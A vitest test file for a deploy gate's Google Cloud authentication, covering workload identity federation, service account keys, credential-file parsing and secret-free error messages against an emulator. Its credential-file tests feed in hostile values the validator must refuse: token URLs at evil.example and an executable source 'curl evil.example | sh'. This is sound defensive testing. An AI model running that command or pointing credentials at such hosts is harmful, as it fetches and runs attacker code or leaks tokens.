import { mkdtemp, rm, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, beforeEach, describe, expect, it } from "vitest";
import { describeError, GateError } from "../../src/errors.js";
import { type AuthSettings, authenticate, CLOUD_PLATFORM_SCOPE, fetchIdToken } from "../../src/gcp/auth/index.js";
import { readCredentialFile } from "../../src/gcp/auth/credential-file.js";
import { type GoogleAuthEmulator, type ServiceAccountKeyJson, startGoogleAuthEmulator } from "../emulators/google-auth.js";

const PROVIDER = "projects/123456789/locations/global/workloadIdentityPools/github/providers/my-repo";
const SA = "deploy-gate@my-project.iam.gserviceaccount.com";

let emulator: GoogleAuthEmulator;
let dir: string;
let key: ServiceAccountKeyJson;

beforeAll(async () => {
  emulator = await startGoogleAuthEmulator();
  dir = await mkdtemp(join(tmpdir(), "auth-test-"));
  key = emulator.createServiceAccountKey("key-user@key-project.iam.gserviceaccount.com", "key-project");
});

afterAll(async () => {
  await emulator.close();
  await rm(dir, { recursive: true, force: true });
});

beforeEach(() => {
  emulator.requests.length = 0;
  emulator.state.faults = {};
  emulator.state.denyImpersonation = false;
  emulator.state.providers = new Set([PROVIDER]);
  emulator.state.serviceAccounts.set(SA, { publicKey: undefined });
  emulator.state.githubRequestToken = "gh-request-token";
  emulator.state.tokenPrefix = "emu";
});

function oidcEnv(): Record<string, string> {
  return {
    ACTIONS_ID_TOKEN_REQUEST_URL: `${emulator.url}/oidc/token?api-version=2.0`,
    ACTIONS_ID_TOKEN_REQUEST_TOKEN: emulator.state.githubRequestToken,
    GITHUB_REPOSITORY: "octo/app",
  };
}

function settings(overrides: Partial<AuthSettings> = {}): AuthSettings {
  return {
    accessToken: undefined,
    credentialsJson: undefined,
    workloadIdentityProvider: undefined,
    serviceAccount: undefined,
    endpoints: { sts: emulator.url, iamCredentials: emulator.url, oauth: emulator.url },
    env: oidcEnv(),
    requestTimeoutMs: 2_000,
    ...overrides,
  };
}

const wif = (overrides: Partial<AuthSettings> = {}) => settings({ workloadIdentityProvider: PROVIDER, serviceAccount: SA, ...overrides });

/** What google-github-actions/auth writes to GOOGLE_APPLICATION_CREDENTIALS for WIF through a service account. */
function externalAccountFile(overrides: Record<string, unknown> = {}): Record<string, unknown> {
  const oidc = new URL(`${emulator.url}/oidc/token?api-version=2.0`);
  oidc.searchParams.set("audience", `https://iam.googleapis.com/${PROVIDER}`);
  return {
    type: "external_account",
    audience: `//iam.googleapis.com/${PROVIDER}`,
    subject_token_type: "urn:ietf:params:oauth:token-type:jwt",
    token_url: `${emulator.url}/v1/token`,
    service_account_impersonation_url: `${emulator.url}/v1/projects/-/serviceAccounts/${SA}:generateAccessToken`,
    credential_source: {
      url: oidc.href,
      headers: { Authorization: `Bearer ${emulator.state.githubRequestToken}` },
      format: { type: "json", subject_token_field_name: "value" },
    },
    ...overrides,
  };
}

async function failure(promise: Promise<unknown>): Promise<GateError> {
  const error = await promise.then(
    () => undefined,
    (e: unknown) => e,
  );
  expect(error).toBeInstanceOf(GateError);
  return error as GateError;
}

const signal = () => new AbortController().signal;
const by = (endpoint: string) => emulator.requests.filter((request) => request.endpoint === endpoint);

describe("access_token", () => {
  it("uses the token as given, with no network call", async () => {
    const creds = await authenticate(settings({ accessToken: "ya29.given" }), signal());
    expect(creds.mode).toBe("access_token");
    expect((await creds.client.getAccessToken()).token).toBe("ya29.given");
    expect(emulator.requests).toHaveLength(0);
  });
});

describe("workload_identity_provider + service_account", () => {
  it("fetches the GitHub OIDC token, exchanges it at STS and impersonates the service account", async () => {
    const creds = await authenticate(wif(), signal());
    expect(creds).toMatchObject({ mode: "workload_identity", principal: SA, projectId: "my-project" });

    const [oidc] = by("oidc");
    expect(oidc?.authorization).toBe("Bearer gh-request-token");
    expect(new URL(oidc?.path ?? "", emulator.url).searchParams.get("audience")).toBe(`https://iam.googleapis.com/${PROVIDER}`);
    expect(new URL(oidc?.path ?? "", emulator.url).searchParams.get("api-version")).toBe("2.0");

    const [sts] = by("sts");
    expect(sts?.body).toMatchObject({
      grant_type: "urn:ietf:params:oauth:grant-type:token-exchange",
      subject_token_type: "urn:ietf:params:oauth:token-type:jwt",
      audience: `//iam.googleapis.com/${PROVIDER}`,
      scope: CLOUD_PLATFORM_SCOPE,
    });

    const [impersonation] = by("iam.generateAccessToken");
    expect(impersonation?.path).toBe(`/v1/projects/-/serviceAccounts/${SA}:generateAccessToken`);
    expect(impersonation?.body.scope).toEqual([CLOUD_PLATFORM_SCOPE]);
    expect(emulator.state.accessTokens.get(impersonation?.authorization?.replace("Bearer ", "") ?? "")?.principal).toMatch(/^principal:/);

    const token = (await creds.client.getAccessToken()).token ?? "";
    expect(emulator.state.accessTokens.get(token)).toEqual({ principal: SA, scope: CLOUD_PLATFORM_SCOPE });
    expect(by("sts")).toHaveLength(1); // cached, not fetched again
  });

  it("accepts the provider with the //iam.googleapis.com/ prefix", async () => {
    const creds = await authenticate(wif({ workloadIdentityProvider: `//iam.googleapis.com/${PROVIDER}` }), signal());
    expect(creds.principal).toBe(SA);
  });

  it("says to add id-token: write when ACTIONS_ID_TOKEN_REQUEST_URL is unset", async () => {
    const error = await failure(authenticate(wif({ env: {} }), signal()));
    expect(error.code).toBe("AUTH_FAILED");
    expect(error.message).toContain("ACTIONS_ID_TOKEN_REQUEST_URL is not set");
    expect(error.hint).toContain("id-token: write");
    expect(emulator.requests).toHaveLength(0);
  });

  it("says GitHub refused when the OIDC request token is wrong", async () => {
    const error = await failure(authenticate(wif({ env: { ...oidcEnv(), ACTIONS_ID_TOKEN_REQUEST_TOKEN: "stale" } }), signal()));
    expect(error.message).toBe("GitHub refused to issue an OIDC token (HTTP 401)");
    expect(error.hint).toContain("id-token: write");
  });

  it("names the provider when STS does not know it (invalid_target)", async () => {
    emulator.state.providers = new Set();
    const error = await failure(authenticate(wif(), signal()));
    expect(error.code).toBe("AUTH_FAILED");
    expect(error.message).toBe(`STS does not know workload identity provider ${PROVIDER} (HTTP 400 invalid_target)`);
    expect(error.hint).toContain("projects/PROJECT_NUMBER/locations/global/workloadIdentityPools/POOL/providers/PROVIDER");
  });

  it("points at the attribute condition when STS rejects the token (invalid_grant)", async () => {
    emulator.state.faults.sts = { kind: "status", status: 400, error: "invalid_grant" };
    const error = await failure(authenticate(wif(), signal()));
    expect(error.message).toBe(`STS rejected the GitHub OIDC token for ${PROVIDER} (HTTP 400 invalid_grant)`);
    expect(error.hint).toContain("attribute condition");
  });

  it("names the role to grant when impersonation is denied", async () => {
    emulator.state.denyImpersonation = true;
    const error = await failure(authenticate(wif(), signal()));
    expect(error.message).toBe(`not allowed to impersonate ${SA} (HTTP 403 PERMISSION_DENIED)`);
    expect(error.hint).toContain(`grant roles/iam.workloadIdentityUser (or roles/iam.serviceAccountTokenCreator) on ${SA}`);
    expect(error.hint).toContain(
      "principalSet://iam.googleapis.com/projects/123456789/locations/global/workloadIdentityPools/github/attribute.repository/octo/app",
    );
  });

  it("says the service account does not exist on 404", async () => {
    const error = await failure(authenticate(wif({ serviceAccount: "ghost@my-project.iam.gserviceaccount.com" }), signal()));
    expect(error.message).toContain("service account ghost@my-project.iam.gserviceaccount.com was not found (HTTP 404 NOT_FOUND)");
  });

  it("sends the impersonated token on API requests made through the client", async () => {
    const creds = await authenticate(wif(), signal());
    await creds.client.request({ url: `${emulator.url}/v2/projects/p/locations/r/services`, signal: signal() }).catch(() => undefined);
    const probe = emulator.requests.find((request) => request.endpoint === "unknown");
    expect(emulator.state.accessTokens.get(probe?.authorization?.replace("Bearer ", "") ?? "")?.principal).toBe(SA);
  });

  it("refuses a service_account without a provider", async () => {
    const error = await failure(authenticate(settings({ serviceAccount: SA }), signal()));
    expect(error.message).toBe("workload_identity_provider and service_account go together");
  });

  it("rejects a provider that is not a resource name, before any call", async () => {
    const error = await failure(authenticate(wif({ workloadIdentityProvider: "my-provider" }), signal()));
    expect(error.message).toContain("workload_identity_provider is not a provider resource name");
    expect(emulator.requests).toHaveLength(0);
  });

  it("retries a single 500 and succeeds", async () => {
    emulator.state.faults.sts = { kind: "status", status: 500, times: 1 };
    const creds = await authenticate(wif(), signal());
    expect(creds.principal).toBe(SA);
    expect(by("sts")).toHaveLength(2);
  });

  it("reports a persistent 500 with the endpoint to check", async () => {
    emulator.state.faults.sts = { kind: "status", status: 500 };
    const error = await failure(authenticate(wif(), signal()));
    expect(error.message).toBe(`STS token exchange at ${new URL(emulator.url).host} failed (HTTP 500 server_error)`);
    expect(error.hint).toContain("sts_endpoint");
  });

  it("times out a hanging STS (the helper's own transporter gets our timeout)", async () => {
    emulator.state.faults.sts = { kind: "hang" };
    const started = Date.now();
    const error = await failure(authenticate(wif({ requestTimeoutMs: 300 }), signal()));
    expect(error.message).toContain("timed out after 300 ms");
    expect(Date.now() - started).toBeLessThan(5_000);
  });

  it("times out a hanging IAM Credentials call", async () => {
    emulator.state.faults["iam.generateAccessToken"] = { kind: "hang" };
    const error = await failure(authenticate(wif({ requestTimeoutMs: 300 }), signal()));
    expect(error.message).toContain(
      `IAM Credentials at ${new URL(emulator.url).host} failed to impersonate ${SA} (timed out after 300 ms)`,
    );
  });

  it("stops at once when the signal aborts", async () => {
    emulator.state.faults.oidc = { kind: "hang" };
    const controller = new AbortController();
    setTimeout(() => controller.abort(), 100);
    const started = Date.now();
    const error = await failure(authenticate(wif({ requestTimeoutMs: 10_000 }), controller.signal));
    expect(error.code).toBe("DEADLINE_EXCEEDED");
    expect(Date.now() - started).toBeLessThan(2_000);
  });
});

describe("credentials_json", () => {
  it("signs a JWT with the service account key and trades it for a cloud-platform token", async () => {
    const creds = await authenticate(settings({ credentialsJson: JSON.stringify(key) }), signal());
    expect(creds).toMatchObject({ mode: "credentials_json", principal: key.client_email, projectId: "key-project" });
    const [oauth] = by("oauth");
    expect(oauth?.body.grant_type).toBe("urn:ietf:params:oauth:grant-type:jwt-bearer");
    expect(emulator.decodeJwt(String(oauth?.body.assertion))).toMatchObject({ iss: key.client_email, scope: CLOUD_PLATFORM_SCOPE });
    const token = (await creds.client.getAccessToken()).token ?? "";
    expect(emulator.state.accessTokens.get(token)?.principal).toBe(key.client_email);
  });

  it("sends the key's token on API requests made through the client", async () => {
    const creds = await authenticate(settings({ credentialsJson: JSON.stringify(key) }), signal());
    await creds.client.request({ url: `${emulator.url}/v1/projects/p/secrets`, signal: signal() }).catch(() => undefined);
    const probe = emulator.requests.find((request) => request.endpoint === "unknown");
    expect(emulator.state.accessTokens.get(probe?.authorization?.replace("Bearer ", "") ?? "")?.principal).toBe(key.client_email);
  });

  it("accepts base64 of the key, as google-github-actions/auth does", async () => {
    const creds = await authenticate(settings({ credentialsJson: Buffer.from(JSON.stringify(key)).toString("base64") }), signal());
    expect(creds.principal).toBe(key.client_email);
  });

  it("says the key was rejected when its signature does not verify", async () => {
    const other = emulator.createServiceAccountKey("rotated@key-project.iam.gserviceaccount.com", "key-project");
    emulator.createServiceAccountKey(other.client_email, "key-project"); // the server now knows a different public key
    const error = await failure(authenticate(settings({ credentialsJson: JSON.stringify(other) }), signal()));
    expect(error.message).toBe(
      `the OAuth token endpoint rejected the service account key for ${other.client_email} (HTTP 400 invalid_grant)`,
    );
    expect(error.hint).toContain("Workload Identity Federation");
  });

  it("refuses text that is not JSON without repeating it", async () => {
    const text = "not-json: hunter2-secret-value";
    const error = await failure(authenticate(settings({ credentialsJson: text }), signal()));
    expect(error.code).toBe("AUTH_FAILED");
    expect(error.message).toBe("credentials_json is not a JSON object (content not shown)");
    expect(error.message).not.toContain(String(text.length));
    expect(describeError(error)).not.toContain("hunter2");
  });

  it("refuses an unsupported type", async () => {
    const error = await failure(
      authenticate(settings({ credentialsJson: JSON.stringify({ type: "authorized_user", refresh_token: "x" }) }), signal()),
    );
    expect(error.message).toBe('credentials_json has type "authorized_user", which the gate does not support');
  });

  it("refuses a file without a type", async () => {
    const error = await failure(authenticate(settings({ credentialsJson: "{}" }), signal()));
    expect(error.message).toBe('credentials_json has no "type" field');
  });

  it("lists missing fields", async () => {
    const { private_key: _dropped, ...partial } = key;
    const error = await failure(authenticate(settings({ credentialsJson: JSON.stringify(partial) }), signal()));
    expect(error.message).toBe("credentials_json is a service account key without private_key");
  });

  it("refuses a private_key that is not PEM without showing it", async () => {
    const error = await failure(
      authenticate(settings({ credentialsJson: JSON.stringify({ ...key, private_key: "MIIEsecret" }) }), signal()),
    );
    expect(error.message).toBe("credentials_json private_key is not a PEM private key (content not shown)");
  });

  it("takes an external_account configuration too", async () => {
    const creds = await authenticate(settings({ credentialsJson: JSON.stringify(externalAccountFile()) }), signal());
    expect(creds).toMatchObject({ mode: "credentials_json", principal: SA, projectId: "my-project" });
    expect(by("sts")[0]?.body.scope).toBe(CLOUD_PLATFORM_SCOPE);
    expect(by("iam.generateAccessToken")[0]?.body.scope).toEqual([CLOUD_PLATFORM_SCOPE]);
  });
});

describe("Application Default Credentials", () => {
  async function adcFile(name: string, content: unknown): Promise<string> {
    const path = join(dir, name);
    await writeFile(path, JSON.stringify(content));
    return path;
  }

  it("reads the external_account file google-github-actions/auth leaves, and its project variables", async () => {
    const path = await adcFile("gha-creds-wif.json", externalAccountFile());
    const creds = await authenticate(
      settings({ env: { ...oidcEnv(), GOOGLE_APPLICATION_CREDENTIALS: path, CLOUDSDK_CORE_PROJECT: "env-project" } }),
      signal(),
    );
    expect(creds).toMatchObject({ mode: "adc", principal: SA, projectId: "env-project" });
    expect(by("oidc")[0]?.authorization).toBe("Bearer gh-request-token");
  });

  it("supports direct federation (no service account) with no principal", async () => {
    const { service_account_impersonation_url: _none, ...direct } = externalAccountFile();
    const path = await adcFile("gha-creds-direct.json", direct);
    const creds = await authenticate(settings({ env: { ...oidcEnv(), GOOGLE_APPLICATION_CREDENTIALS: path } }), signal());
    expect(creds).toMatchObject({ mode: "adc", principal: undefined, projectId: undefined });
    expect(by("iam.generateAccessToken")).toHaveLength(0);
    expect(by("sts")[0]?.body.scope).toBe(CLOUD_PLATFORM_SCOPE);
    await expect(fetchIdToken(creds, "https://svc.a.run.app", signal())).rejects.toThrow(/no service account to sign an ID token/);
  });

  it("reads a service account key file; GOOGLE_CLOUD_PROJECT wins over the key's project", async () => {
    const path = await adcFile("gha-creds-key.json", key);
    const withEnv = await authenticate(
      settings({ env: { GOOGLE_APPLICATION_CREDENTIALS: path, GOOGLE_CLOUD_PROJECT: "gcp-env" } }),
      signal(),
    );
    expect(withEnv).toMatchObject({ mode: "adc", principal: key.client_email, projectId: "gcp-env" });
    const withoutEnv = await authenticate(settings({ env: { GOOGLE_APPLICATION_CREDENTIALS: path } }), signal());
    expect(withoutEnv.projectId).toBe("key-project");
  });

  it("says when the file cannot be read", async () => {
    const missing = join(dir, "nope.json");
    const error = await failure(authenticate(settings({ env: { GOOGLE_APPLICATION_CREDENTIALS: missing } }), signal()));
    expect(error.message).toBe(`GOOGLE_APPLICATION_CREDENTIALS points at ${missing}, which cannot be read: it does not exist (ENOENT)`);
  });

  it("says how to add credentials when there are none", async () => {
    const error = await failure(authenticate(settings({ env: {} }), signal()));
    expect(error.code).toBe("AUTH_FAILED");
    expect(error.message).toContain("no Google Cloud credentials");
    expect(error.hint).toContain("google-github-actions/auth");
    expect(error.hint).toContain("access_token");
  });
});

describe("URLs in credential files", () => {
  const noOverrides: AuthSettings["endpoints"] = { sts: undefined, iamCredentials: undefined, oauth: undefined };
  const context = (endpoints = noOverrides) => ({
    origin: "credentials file",
    endpoints,
    oidcRequestUrl: "https://pipelines.actions.githubusercontent.com/abc/idtoken?api-version=2.0",
  });
  const googleFile = (overrides: Record<string, unknown> = {}) => ({
    type: "external_account",
    audience: `//iam.googleapis.com/${PROVIDER}`,
    subject_token_type: "urn:ietf:params:oauth:token-type:jwt",
    token_url: "https://sts.googleapis.com/v1/token",
    service_account_impersonation_url: `https://iamcredentials.googleapis.com/v1/projects/-/serviceAccounts/${SA}:generateAccessToken`,
    credential_source: {
      url: "https://pipelines.actions.githubusercontent.com/abc/idtoken?api-version=2.0&audience=x",
      headers: { Authorization: "Bearer t" },
      format: { type: "json", subject_token_field_name: "value" },
    },
    ...overrides,
  });

  it("accepts Google hosts and this job's OIDC endpoint", () => {
    const file = readCredentialFile(googleFile(), context());
    expect(file).toMatchObject({
      type: "external_account",
      tokenUrl: "https://sts.googleapis.com/v1/token",
      impersonation: { serviceAccount: SA, iamEndpoint: "https://iamcredentials.googleapis.com" },
    });
  });

  it.each([
    [
      "token_url",
      "https://evil.example/v1/token",
      "credentials file token_url points at evil.example, not a Google host; set sts_endpoint if you use a private endpoint",
    ],
    [
      "token_url",
      "https://sts.googleapis.com.evil.example/v1/token",
      "token_url points at sts.googleapis.com.evil.example, not a Google host",
    ],
    ["token_url", "http://sts.googleapis.com/v1/token", "token_url points at sts.googleapis.com, not a Google host"],
    [
      "service_account_impersonation_url",
      `https://evil.example/v1/projects/-/serviceAccounts/${SA}:generateAccessToken`,
      "service_account_impersonation_url points at evil.example, not a Google host; set iam_credentials_endpoint",
    ],
  ])("refuses %s at %s", (field, url, message) => {
    expect(() => readCredentialFile(googleFile({ [field]: url }), context())).toThrow(message);
  });

  it("refuses a credential_source.url that is not this job's OIDC endpoint", () => {
    const file = googleFile({ credential_source: { url: "https://evil.example/token", format: { type: "text" } } });
    expect(() => readCredentialFile(file, context())).toThrow(
      "credentials file credential_source.url points at evil.example, not this job's GitHub OIDC endpoint (pipelines.actions.githubusercontent.com)",
    );
  });

  it("refuses executable credential sources", () => {
    const file = googleFile({ credential_source: { executable: { command: "curl evil.example | sh" } } });
    expect(() => readCredentialFile(file, context())).toThrow("credential_source (executable) is not supported");
  });

  it("refuses a key whose token_uri is not Google's", () => {
    expect(() => readCredentialFile({ ...key, token_uri: "https://evil.example/token" }, context())).toThrow(
      "credentials file token_uri points at evil.example, not a Google host; set oauth_endpoint",
    );
    expect(readCredentialFile({ ...key, token_uri: "https://accounts.google.com/o/oauth2/token" }, context()).type).toBe("service_account");
  });

  it("accepts a private endpoint only when the workflow set the matching override", () => {
    const file = googleFile({ token_url: "https://sts.private.example/v1/token" });
    expect(() => readCredentialFile(file, context())).toThrow("not a Google host; set sts_endpoint");
    const endpoints = { ...noOverrides, sts: "https://sts.private.example" };
    expect(readCredentialFile(file, context(endpoints))).toMatchObject({ tokenUrl: "https://sts.private.example/v1/token" });
    // The iam override does not vouch for an STS URL.
    expect(() => readCredentialFile(file, context({ ...noOverrides, iamCredentials: "https://sts.private.example" }))).toThrow(
      "set sts_endpoint",
    );
  });

  it("refuses end to end, before sending anything, even with an override for another host", async () => {
    const file = externalAccountFile({ token_url: "https://evil.example/v1/token" });
    const error = await failure(authenticate(settings({ credentialsJson: JSON.stringify(file) }), signal()));
    expect(error.message).toBe(
      `credentials_json token_url points at evil.example, not a Google host nor sts_endpoint (${new URL(emulator.url).host}); set sts_endpoint if you use a private endpoint`,
    );
    expect(emulator.requests).toHaveLength(0);
  });
});

describe("fetchIdToken", () => {
  const audience = "https://backend-staging-abc-uc.a.run.app";

  it("mints one from a service account key", async () => {
    const creds = await authenticate(settings({ credentialsJson: JSON.stringify(key) }), signal());
    const token = await fetchIdToken(creds, audience, signal());
    expect(emulator.decodeJwt(token)).toMatchObject({ aud: audience, email: key.client_email });
    const assertion = emulator.decodeJwt(String(by("oauth").at(-1)?.body.assertion));
    expect(assertion.target_audience).toBe(audience);
  });

  it("asks IAM Credentials generateIdToken with the federated token under WIF", async () => {
    const creds = await authenticate(wif(), signal());
    const token = await fetchIdToken(creds, audience, signal());
    expect(emulator.decodeJwt(token)).toMatchObject({ aud: audience, email: SA });
    const [request] = by("iam.generateIdToken");
    expect(request?.body).toMatchObject({ audience, includeEmail: true });
    const bearer = request?.authorization?.replace("Bearer ", "") ?? "";
    expect(emulator.state.accessTokens.get(bearer)?.principal).toMatch(/^principal:/);
  });

  it("names the fix when generateIdToken is denied", async () => {
    const creds = await authenticate(wif(), signal());
    emulator.state.denyImpersonation = true;
    const error = await failure(fetchIdToken(creds, audience, signal()));
    expect(error.message).toBe(`ID token for ${audience}: not allowed to mint an ID token as ${SA} (HTTP 403 PERMISSION_DENIED)`);
    expect(error.hint).toContain("roles/iam.workloadIdentityUser");
  });

  it("explains that an access_token cannot mint one", async () => {
    const creds = await authenticate(settings({ accessToken: "ya29.given" }), signal());
    const error = await failure(fetchIdToken(creds, audience, signal()));
    expect(error.message).toContain("an access_token cannot mint an ID token");
  });
});

describe("secrets never reach a message", () => {
  it("keeps planted keys and tokens out of every error", async () => {
    const canary = "CANARY7f3a";
    emulator.state.tokenPrefix = canary;
    emulator.state.githubRequestToken = `gh-${canary}-request-token`;
    const planted = emulator.createServiceAccountKey(`canary@key-project.iam.gserviceaccount.com`, "key-project");
    const keyBody = planted.private_key.split("\n")[1] ?? "";
    const secrets = [canary, keyBody, "PRIVATE KEY", "ya29.", "eyJ", "Bearer"];

    const scenarios: Array<() => Promise<unknown>> = [
      () => {
        emulator.state.faults.sts = { kind: "status", status: 400, error: "invalid_grant", echo: true };
        return authenticate(wif(), signal());
      },
      () => {
        emulator.state.faults.sts = { kind: "status", status: 500, echo: true };
        return authenticate(wif(), signal());
      },
      () => {
        emulator.state.faults["iam.generateAccessToken"] = { kind: "status", status: 403, error: "PERMISSION_DENIED", echo: true };
        return authenticate(wif(), signal());
      },
      () => {
        emulator.state.faults.oidc = { kind: "status", status: 403, echo: true };
        return authenticate(wif(), signal());
      },
      () => {
        emulator.state.faults.oauth = { kind: "status", status: 400, error: "invalid_grant", echo: true };
        return authenticate(settings({ credentialsJson: JSON.stringify(planted) }), signal());
      },
      () => {
        emulator.state.faults.oauth = { kind: "status", status: 401, error: "invalid_client", echo: true };
        return authenticate(settings({ credentialsJson: JSON.stringify(planted) }), signal()).then((creds) =>
          fetchIdToken(creds, "https://x.run.app", signal()),
        );
      },
      () => authenticate(settings({ credentialsJson: `${JSON.stringify(planted)}, trailing ${canary}` }), signal()),
      () => authenticate(settings({ credentialsJson: JSON.stringify({ ...planted, type: canary }) }), signal()),
      () => authenticate(settings({ credentialsJson: JSON.stringify({ ...planted, client_email: `${canary} <x@y>` }) }), signal()),
      () =>
        authenticate(
          settings({ credentialsJson: JSON.stringify({ ...planted, token_uri: `https://${canary}:pw@evil.example/x?${canary}` }) }),
          signal(),
        ),
      async () => {
        const creds = await authenticate(wif(), signal());
        emulator.state.faults["iam.generateIdToken"] = { kind: "status", status: 500, echo: true };
        return fetchIdToken(creds, "https://x.run.app", signal());
      },
    ];

    let failures = 0;
    for (const scenario of scenarios) {
      emulator.state.faults = {};
      const error = await scenario().then(
        () => undefined,
        (e: unknown) => e,
      );
      expect(error).toBeInstanceOf(GateError);
      failures += 1;
      const gateError = error as GateError;
      expect(gateError.cause).toBeUndefined();
      const texts = [
        gateError.message,
        gateError.hint ?? "",
        String(gateError),
        describeError(gateError),
        JSON.stringify(gateError),
        gateError.stack ?? "",
      ];
      for (const text of texts) for (const secret of secrets) expect(text).not.toContain(secret);
    }
    expect(failures).toBe(scenarios.length);
    // The echo faults really did put the secrets in the response bodies the gate read.
    expect(emulator.requests.some((request) => request.authorization?.includes(canary))).toBe(true);
  });
});
